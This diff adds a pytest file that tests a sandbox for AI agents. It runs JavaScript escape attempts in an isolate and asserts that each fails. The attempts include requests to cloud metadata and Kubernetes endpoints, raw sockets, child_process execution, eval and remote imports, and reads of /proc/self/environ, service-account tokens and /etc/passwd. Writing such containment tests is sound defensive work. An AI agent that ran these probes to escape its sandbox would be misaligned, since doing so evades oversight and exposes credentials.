@@ -1,0 +1,265 @@
+"""An agent that tries to get out: each attempt runs inside a real isolate, and each was seen to succeed once with its
+boundary taken away by hand.
+"""
+
+import asyncio
+import json
+from collections.abc import AsyncGenerator
+from dataclasses import dataclass
+
+import pytest
+from aiohttp import web
+
+from tests.isolates.host import Host, a_host
+
+
+@dataclass
+class Bait:
+    """A server on this machine that no agent may reach; counts who connects."""
+
+    port: int = 0
+    connections: int = 0
+
+
+@pytest.fixture
+async def bait() -> AsyncGenerator[Bait]:
+    caught = Bait()
+
+    async def connected(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        caught.connections += 1
+        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nsecret")
+        writer.close()
+
+    server = await asyncio.start_server(connected, "127.0.0.1", 0)
+    caught.port = server.sockets[0].getsockname()[1]
+    async with server:
+        yield caught
+
+
+def attempting(attempt: str) -> str:
+    """An agent that makes the attempt (the body of an async function) and tells what became of it."""
+    return f"""
+    import * as workers from "cloudflare:workers";
+    import {{ connect }} from "cloudflare:sockets";
+    import net from "node:net";
+    import http from "node:http";
+    import dns from "node:dns";
+    import fs from "node:fs";
+    import dgram from "node:dgram";
+    import child_process from "node:child_process";
+    const attempt = async (request, env, ctx, port) => {{ {attempt} }};
+    export default {{
+      async fetch(request, env, ctx) {{
+        const port = Number(await request.text());
+        const late = new Promise((_, fail) => setTimeout(() => fail(new Error("nothing came of it")), 3000));
+        try {{
+          return Response.json({{ got: await Promise.race([attempt(request, env, ctx, port), late]) ?? null }});
+        }} catch (error) {{
+          return Response.json({{ failed: String(error) }});
+        }}
+      }},
+    }};
+    """
+
+
+async def try_it(host: Host, attempt: str, bait: Bait | None = None) -> dict[str, object]:
+    opened = await host.open("team-a/s-1", attempting(attempt), str(bait.port if bait else 0))
+    assert opened.status == 200, opened.body
+    return opened.json
+
+
+FETCH = "const answer = await fetch(ADDRESS); return [answer.status, await answer.text()];"
+NODE_HTTP = """
+    const answer = await new Promise((done, fail) => http.get(ADDRESS, done).on("error", fail));
+    let text = "";
+    for await (const chunk of answer) text += chunk;
+    return [answer.statusCode, text];
+"""
+
+
+@pytest.mark.parametrize(
+    ("by", "address"),
+    [
+        (FETCH, "http://127.0.0.1:BAIT/"),
+        (FETCH, "http://localhost:BAIT/"),
+        (FETCH, "http://[::1]:BAIT/"),
+        (FETCH, "https://api.openai.com/v1/models"),
+        (FETCH, "http://169.254.169.254/latest/meta-data/"),
+        (FETCH, "https://kubernetes.default.svc/api"),
+        (FETCH, "https://10.96.0.1/api"),
+        (FETCH, "http://gateway.ambit:8080/openai/v1/models"),
+        (FETCH, "http://gateway.ambit:8443/v1/namespaces/team-a/sessions"),
+        (FETCH, "http://user:password@gateway.ambit.elsewhere.example/"),
+        (FETCH, "http://supervisor/v1/sessions"),
+        (FETCH, "http://outside/egress"),
+        (NODE_HTTP, "http://127.0.0.1:BAIT/"),
+        (NODE_HTTP, "http://169.254.169.254/latest/meta-data/"),
+        (NODE_HTTP, "http://kubernetes.default.svc/api"),
+    ],
+)
+async def test_other_hosts_are_the_gateways_to_refuse(host: Host, bait: Bait, by: str, address: str) -> None:
+    address = address.replace("BAIT", str(bait.port))
+    result = await try_it(host, by.replace("ADDRESS", json.dumps(address)), bait)
+    assert bait.connections == 0
+    assert result == {"got": [403, '{"reason": "HostNotAllowed"}']}
+    [asked] = host.gateway.asked
+    assert asked.target.startswith("http://")  # absolute: the gateway sees whom it was meant for
+    assert asked.headers["x-ambit-session"] == "team-a/s-1"
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "const socket = connect(`127.0.0.1:${port}`); await socket.opened; return 'open';",
+        """
+        const socket = connect({ hostname: "gateway.ambit", port: 80 });
+        await socket.opened;
+        return "open";
+        """,
+        """
+        return new Promise((done, fail) => {
+          const socket = net.connect(port, "127.0.0.1", () => done("open"));
+          socket.on("error", fail);
+        });
+        """,
+        """
+        const answer = await fetch(`http://127.0.0.1:${port}/`, { headers: { Upgrade: "websocket" } });
+        if (answer.webSocket === null) throw new Error(`no socket: ${answer.status}`);
+        return "open";
+        """,
+        """
+        return new Promise((done, fail) => {
+          const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
+          socket.addEventListener("open", () => done("open"));
+          socket.addEventListener("error", (event) => fail(new Error(event.message ?? "error")));
+          socket.addEventListener("close", () => fail(new Error("closed")));
+        });
+        """,
+        """
+        return new Promise((done, fail) => {
+          dgram.createSocket("udp4").send("x", port, "127.0.0.1", (error) => (error ? fail(error) : done("sent")));
+        });
+        """,
+        "child_process.execSync('id'); return 'ran';",
+    ],
+    ids=["connect", "connect-gateway", "node:net", "fetch-upgrade", "WebSocket", "dgram", "child_process"],
+)
+async def test_there_is_no_other_way_out(host: Host, bait: Bait, attempt: str) -> None:
+    result = await try_it(host, attempt, bait)
+    assert "failed" in result, result
+    assert bait.connections == 0
+
+
+@pytest.mark.parametrize("name", ["kubernetes.default.svc", "secret.elsewhere.example"])
+async def test_names_are_not_resolved(host: Host, name: str) -> None:
+    result = await try_it(host, f"return dns.promises.resolve4({json.dumps(name)});")
+    assert "failed" in result, result
+    # workerd asks a public resolver over HTTP: that is a host like any other.
+    assert [asked.target.split("/")[2] for asked in host.gateway.asked] == ["cloudflare-dns.com:443"]
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "return eval('1 + 1');",
+        "return new Function('return 1 + 1')();",
+        "return (async () => {}).constructor('return 1 + 1')();",
+        "return setTimeout('globalThis.x = 1', 0);",
+        "return new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])) && 'compiled';",
+        "return (await import('data:text/javascript,export default 2')).default;",
+        "return (await import('http://elsewhere.example/x.js')).default;",
+    ],
+    ids=["eval", "Function", "AsyncFunction", "setTimeout", "WebAssembly", "data:", "http:"],
+)
+async def test_only_the_code_that_was_pinned_runs(host: Host, attempt: str) -> None:
+    result = await try_it(host, attempt)
+    assert "failed" in result, result
+
+
+async def test_code_is_not_made_while_loading_either(host: Host) -> None:
+    source = "const made = eval('1 + 1'); export default { fetch: () => new Response(made) };"
+    opened = await host.open("team-a/s-1", source)
+    assert (opened.status, opened.headers["x-ambit-host-error"]) == (502, "AgentFailed")
+    assert "Code generation from strings disallowed" in opened.body
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "return env.SQL.exec(`ATTACH DATABASE '/tmp/x' AS other`).toArray();",
+        "return env.SQL.exec(`SELECT load_extension('x')`).toArray();",
+        "return env.SQL.exec(`PRAGMA max_page_count = 1000000000`).toArray();",
+        "return env.SQL.exec(`VACUUM INTO '/tmp/x'`).toArray();",
+        "return fs.readFileSync('/proc/self/environ', 'utf8');",
+        "return fs.readFileSync('/var/run/secrets/kubernetes.io/serviceaccount/token', 'utf8');",
+        "return fs.readFileSync('/etc/passwd', 'utf8');",
+        "return (await caches.open('shared')).match('http://elsewhere.example/');",
+        "return caches.default.match('http://elsewhere.example/');",
+        "return workers.env.LOADER.get('x', () => ({}));",
+        "return workers.env.OUTSIDE.fetch('http://outside/egress');",
+        "return workers.exports.AgentHost.name;",
+        "return ctx.exports.Egress.name;",
+        "return (await import('host.js')).AgentHost;",
+    ],
+)
+async def test_nothing_of_the_host_is_in_reach(host: Host, attempt: str) -> None:
+    result = await try_it(host, attempt)
+    assert "failed" in result, result
+
+
+async def test_an_agent_is_given_these_things_and_no_others(host: Host) -> None:
+    result = await try_it(
+        host,
+        """
+        return {
+          env: Object.keys(env), ctx: Object.keys(ctx), workers: Object.keys(workers.env), process: process.env,
+          root: fs.readdirSync("/"), bundle: fs.readdirSync("/bundle"),
+        };
+        """,
+    )
+    assert result["got"] == {
+        "env": ["OPENAI_BASE_URL", "ANTHROPIC_BASE_URL", "AMBIT_SESSION", "SQL"],
+        "ctx": ["storage", "waitUntil"],
+        "workers": ["OPENAI_BASE_URL", "ANTHROPIC_BASE_URL", "AMBIT_SESSION"],
+        "process": {
+            "OPENAI_BASE_URL": "http://gateway.ambit/openai/v1",
+            "ANTHROPIC_BASE_URL": "http://gateway.ambit/anthropic",
+            "AMBIT_SESSION": "team-a/s-1",
+        },
+        "root": ["bundle", "tmp", "dev"],
+        "bundle": ["agent.js", "ambit-agent.js", "ambit-control.js", "ambit-main.js"],
+    }
+
+
+async def test_sessions_share_neither_database_nor_memory_nor_files() -> None:
+    secretive = """
+    import fs from "node:fs";
+    export default {
+      async fetch(request, env) {
+        const found = [];
+        const look = (what, read) => {
+          try { found.push([what, read()]); } catch { found.push([what, null]); }
+        };
+        look("row", () => env.SQL.exec("SELECT text FROM secrets").toArray().length);
+        look("global", () => globalThis.secret ?? null);
+        look("file", () => fs.readFileSync("/tmp/secret", "utf8"));
+        env.SQL.exec("CREATE TABLE IF NOT EXISTS secrets (text TEXT)");
+        env.SQL.exec("INSERT INTO secrets VALUES (?)", env.AMBIT_SESSION);
+        globalThis.secret = env.AMBIT_SESSION;
+        fs.writeFileSync("/tmp/secret", env.AMBIT_SESSION);
+        await fetch(env.OPENAI_BASE_URL + "/models");
+        return Response.json(found);
+      },
+    };
+    """
+    async with a_host() as host:
+        together = asyncio.Barrier(4)
+
+        async def all_at_once(request: object) -> web.StreamResponse:
+            await together.wait()
+            return web.Response(text="go on")
+
+        host.gateway.answer = all_at_once
+        names = ("team-a/s-1", "team-a/s-2", "team-a/s-11", "team-b/s-1")
+        opened = await asyncio.gather(*(host.open(name, secretive) for name in names))
+        assert [json.loads(one.body) for one in opened] == [[["row", None], ["global", None], ["file", None]]] * 4
